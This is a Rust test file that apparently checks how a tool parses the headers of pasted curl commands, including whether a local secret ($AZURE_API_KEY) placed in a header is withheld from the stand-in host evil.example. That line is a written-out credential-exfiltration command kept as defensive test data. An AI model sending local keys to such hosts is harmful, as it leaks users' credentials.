//! The headers of pasted commands: which are taken along, and which are not.

use super::{MESSAGES, read};
use crate::api::ErrorCode;

#[test]
fn headers_of_a_gateway_are_the_connections_and_those_of_a_program_are_not() {
    let headers = |written: &str| {
        let text = format!("curl {MESSAGES} -H 'x-api-key: k-12345678' {written}");
        let found = read(&text).1.remove(0);
        let shown = found.shown();
        let said = format!("{shown:?} {found:?}");
        assert!(!said.contains("canary"), "{said}");
        let values = found.headers.iter();
        let values: Vec<_> = values
            .map(|(name, value)| format!("{name}={}", value.expose()))
            .collect();
        (values.join(" "), shown.left_out.join(" "))
    };
    for (written, taken, left_out) in [
        ("-H 'X-Team: canary'", "x-team=canary", ""),
        ("-H 'x-team: $TEAM_KEY'", "x-team=team-key-2222", ""),
        (
            "-H 'ocp-apim-subscription-key: canary'",
            "ocp-apim-subscription-key=canary",
            "",
        ),
        ("-H 'x-a: canary1' -H 'X-A: canary2'", "x-a=canary1", ""),
        // Nothing stands there that could be sent.
        ("-H 'x-team: <your team>'", "", "x-team"),
        ("-H 'x-team: $NOT_SET'", "", "x-team $NOT_SET"),
        ("-H 'x-team:'", "", "x-team"),
        ("-H 'x-team: canäry'", "", "x-team"),
        ("-H 'bad name: canary'", "", "bad name"),
        // Whoever asks says this.
        (
            "-H 'Host: a' -H 'content-type: b' -H 'user-agent: c' -H 'accept: d'",
            "",
            "",
        ),
        (
            "-H 'accept-language: de' -H 'origin: a' -H 'cookie: canary'",
            "",
            "accept-language origin cookie",
        ),
        (
            "-H 'sec-fetch-mode: cors' -H 'x-stainless-lang: js'",
            "",
            "sec-fetch-mode x-stainless-lang",
        ),
        (
            "-H 'anthropic-version: 2023-06-01' -H 'anthropic-beta: b'",
            "",
            "anthropic-version anthropic-beta",
        ),
        (
            "-H 'proxy-authorization: canary'",
            "",
            "proxy-authorization",
        ),
    ] {
        assert_eq!(
            headers(written),
            (taken.to_owned(), left_out.to_owned()),
            "{written}"
        );
    }
    let many: String = (0..40).map(|at| format!(" -H 'x-{at}: v'")).collect();
    let (taken, left_out) = headers(&many);
    let words = |text: &str| text.split(' ').count();
    assert_eq!((words(&taken), words(&left_out)), (32, 8));
}

#[test]
fn a_key_of_this_machine_in_a_header_is_not_lent_either() {
    let to = |host: &str| {
        let text = format!(
            "curl https://{host}/ -H 'x-api-key: k-12345678' -H \"x-team: $AZURE_API_KEY\""
        );
        read(&text).1[0].shown()
    };
    let other = to("other.services.ai.azure.com");
    assert_eq!(other.problem.unwrap().code, ErrorCode::KeyForOtherHost);
    let anybody = to("evil.example");
    assert_eq!(anybody.headers, Vec::<String>::new());
    assert_eq!(anybody.left_out, ["x-team", "$AZURE_API_KEY"]);
    let mine = to("mine.services.ai.azure.com");
    assert_eq!(
        (mine.headers, mine.problem),
        (vec!["x-team".to_owned()], None)
    );
}
